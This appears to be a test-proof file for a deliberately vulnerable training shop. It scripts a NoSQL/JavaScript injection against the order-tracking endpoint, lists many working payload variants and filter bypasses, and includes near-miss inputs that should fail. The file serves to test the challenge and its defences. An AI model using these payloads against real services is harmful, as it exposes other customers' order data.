import { type Attacker, prove } from '@fruit/challenge-kit/proof'
import { challenge } from './challenge.ts'

const track = (id: string) => (attacker: Attacker) => attacker.get(`/rest/track-order/${encodeURIComponent(id)}`)

export const proof = prove(challenge, {
  exploit: async (attacker) => {
    // The error for an apostrophe shows that the server evaluates the order number.
    await track("'")(attacker)
    await track("' || true || '")(attacker)
  },
  spellings: {
    'without blanks': track("'||true||'"),
    'with a number that counts as true': track("'||1||'"),
    'equal to itself': track("'||'1'=='1"),
    'not equal to what it is not': track("x'!=='y"),
    'with a comment behind it': track("'||1//"),
    'by a question': track("x'?0:'1"),
    'any that has a total': track("'||this.totalPrice>0||'"),
    'by a pattern': track("'||/./.test(this.orderId)||'"),
    'as a bot of the interface sends it': (attacker) =>
      attacker.get('/rest/track-order/%27%20%7C%7C%20true%20%7C%7C%20%27'),
  },
  nearMisses: {
    'a number that no order has': track('5267-f73dcd000abcc353'),
    'an apostrophe': track("'"),
    'an expression that is none': track("' || true"),
    'in quotation marks, which end nothing': track('" || true || "'),
    'true without an apostrophe': track('true || true'),
    'an expression that finds nothing': track("' || false || '"),
    'so long that its end is cut off': track(`${' '.repeat(50)}' || true || '`),
    'an operator as a text': track('{"$ne":null}'),
    'a nap and nothing more': track("'||sleep(1)||'"),
    'where reviews are looked up': (attacker) =>
      attacker.get(`/rest/products/${encodeURIComponent("' || true || '")}/reviews`),
    'the orders of one’s own': async (attacker) => {
      await attacker.becomeCustomer()
      await attacker.get('/rest/order-history')
    },
    'all orders as accounting sees them, without being accounting': async (attacker) => {
      await attacker.becomeCustomer()
      await attacker.get('/rest/order-history/orders')
    },
  },
  bypasses: {
    'escape-quotes': track("\\'||1//"),
    'refuse-or': track("x'?0:'1"),
    'match-the-whole-number': track('.*'),
  },
})
